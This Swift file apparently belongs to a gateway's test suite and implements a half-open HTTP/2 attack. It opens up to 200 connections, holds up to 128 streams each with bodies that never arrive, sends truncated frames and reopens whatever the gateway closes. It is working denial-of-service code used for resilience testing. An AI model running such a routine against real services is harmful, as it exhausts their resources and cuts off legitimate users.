import Support

/// Begins everything that HTTP/2 lets a client begin, and ends none of it.
///
/// Three in four connections hold as many requests open as they may, whose bodies never come; of the others, one sends a
/// head without its end, one half a frame. What the gateway ends is begun anew.
struct HalfOpenHTTP2: Attack {
    let name = "half-open HTTP/2"

    private static let connections = 200
    private static let connectsPerSecond = 20
    private static let requestsPerSecond = 2_000
    private static let streams = 128

    func run(_ target: Target, until end: ContinuousClock.Instant) async throws -> String {
        let raid = try Raid(target)
        var open: [RaidConnection] = []
        var mute: [RaidConnection] = []
        var (begun, held) = (0, 0)
        var connects = Pace(perSecond: Self.connectsPerSecond)
        var requests = Pace(perSecond: Self.requestsPerSecond)
        while .now < end {
            open.removeAll { !$0.isOpen }
            mute.removeAll { !$0.isOpen }
            for _ in 0..<connects.due() where open.count + mute.count < Self.connections {
                begun += 1
                guard let new = await raid.connect(sending: Self.opening(begun)) else { continue }
                if Self.isMute(begun) { mute.append(new) } else { open.append(new) }
            }
            var due = requests.due()
            var streams = 0
            for connection in open {
                let count = await connection.streams()
                streams += count
                guard due > 0 else { continue }
                let more = min(due, Self.streams - count)
                connection.request(more, Self.request)
                due -= more
            }
            held = max(held, streams)
            try await Task.sleep(for: .milliseconds(20))
        }
        let tally = raid.sofar
        await raid.end()
        guard held > 0 else { throw TestFault(description: "no request stayed open") }
        return
            "\(tally.connections) connections of a service, \(tally.requests) requests begun on them, "
            + "\(held) open at once at most, \(tally.answers) answered and \(tally.resets) reset by the gateway"
    }

    /// Whether a connection sends no more than its first bytes.
    private static func isMute(_ number: Int) -> Bool { number % 8 < 2 }

    private static func opening(_ number: Int) -> [UInt8] {
        let preface = HTTP2Frames.preface
        switch number % 8 {
        case 0: return preface + HTTP2Frames.frame(1, flags: 0, stream: 1, [0x82])
        case 1: return preface + [0, 0x40, 0]
        default: return preface
        }
    }

    private static func request(_ stream: UInt32) -> [UInt8] {
        HTTP2Frames.request(
            "/api/maxine/services/\(Target.attacker)/instances/i-\(stream)", method: "PUT",
            more: [("content-type", "application/json"), ("content-length", "200")],
            stream: stream, ends: false)
    }
}
